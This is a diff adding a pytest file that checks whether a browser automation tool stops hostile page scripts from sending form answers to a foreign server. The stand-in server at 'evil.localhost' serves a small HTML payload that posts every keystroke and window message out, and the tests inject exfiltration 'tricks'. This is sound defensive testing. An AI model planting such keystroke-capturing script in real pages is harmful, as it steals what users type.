@@ -1,0 +1,127 @@
+"""Tricks of a page's own script: what was typed does not reach the foreign server, whose own log says so."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from playwright.sync_api import Browser
+
+from leaks.tricks import BY_FORM, BY_SCRIPT, script_of
+from pouce.browser.launch import OpenBrowser, open_browser
+from pouce.demo.places import hosts_of
+from pouce.ending import Result
+from pouce.journal.cleaner import Cleaner
+from pouce.journey import STAGES, Journey
+from pouce.person import Person
+from pouce.rehearsal import Rehearsal
+
+MARIE = Person.from_file(Path(__file__).parents[2] / "fixtures" / "persons" / "marie.yaml")
+CLEANER = Cleaner(MARIE)
+
+LISTENING = b"""<!doctype html><input autofocus oninput="fetch('/got', { method: 'POST', body: this.value })">
+<script>addEventListener('message', (event) => fetch('/got', { method: 'POST', body: event.data }));</script>"""
+
+
+class Foreign(ThreadingHTTPServer):
+    """A server that belongs to somebody else and keeps every byte that it is sent."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), Keeping)
+        self.got: list[bytes] = []
+
+    @property
+    def origin(self) -> str:
+        """Where it is."""
+        return f"http://evil.localhost:{self.server_port}"
+
+    @property
+    def copies(self) -> int:
+        """How many copies of answers it was sent."""
+        return sum(CLEANER.traces(data) for data in self.got)
+
+
+class Keeping(BaseHTTPRequestHandler):
+    """Keeps a request, and shows a page that sends on every key and message."""
+
+    server: Foreign
+
+    def do_GET(self) -> None:
+        """Keep it."""
+        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
+        self.server.got.append(f"{self.requestline}\n{self.headers}\n".encode() + body)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(LISTENING)
+
+    do_POST = do_GET  # noqa: N815  as the server wants it
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def foreign() -> Iterator[Foreign]:
+    """The foreign server, in a thread."""
+    with Foreign() as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def locked() -> Iterator[OpenBrowser]:
+    """A browser as Pouce opens it: the hosts of the rehearsal resolve, and no other."""
+    with Rehearsal() as site:
+        hosts = hosts_of(site)
+    with open_browser(headed=False, hosts=hosts, language="fr") as opened:
+        yield opened
+
+
+def play(browser: Browser, foreign: Foreign, trick: str, stage: int) -> Result:
+    """Play a stage on pages with a trick."""
+    with Rehearsal() as site, browser.new_context(locale="fr-FR") as context:
+        context.add_init_script(script_of(trick, foreign.origin))
+        journey = Journey(site, context.new_page(), person=MARIE, language="fr")
+        journey.begin_at(stage)
+        result = journey.play(STAGES[stage - 1])
+        context.pages[0].wait_for_timeout(100)
+        return result
+
+
+def of_which(tricks: dict[str, str], quick: set[str]) -> list[object]:
+    """Each trick at the first two stages; those by default that are named, at the second."""
+    return [
+        pytest.param(trick, stage, marks=() if stage == 2 and trick in quick else pytest.mark.sweep)
+        for trick in tricks
+        for stage in (1, 2)
+    ]
+
+
+@pytest.mark.parametrize(("trick", "stage"), of_which(BY_FORM, {"a copy that is sent"}))
+def test_forms_send_nothing_elsewhere(browser: Browser, foreign: Foreign, trick: str, stage: int) -> None:
+    """On a browser that reaches every address, no form and no jump of the focus brings an answer to a foreign one."""
+    play(browser, foreign, trick, stage)
+
+    assert foreign.copies == 0
+
+
+@pytest.mark.parametrize(("trick", "stage"), of_which({**BY_FORM, **BY_SCRIPT}, {"beacon"}))
+def test_locked_hosts_hold_back_every_script(locked: OpenBrowser, foreign: Foreign, trick: str, stage: int) -> None:
+    """On a browser as Pouce opens it, nothing at all reaches the foreign server, whatever a script does."""
+    play(locked.browser, foreign, trick, stage)
+
+    assert foreign.got == []
+
+
+@pytest.mark.sweep
+@pytest.mark.parametrize("trick", BY_SCRIPT)
+def test_the_tricks_work(browser: Browser, foreign: Foreign, trick: str) -> None:
+    """On a browser that reaches every address each script does bring an answer away: the locked hosts are needed."""
+    play(browser, foreign, trick, 2)
+
+    assert foreign.copies > 0
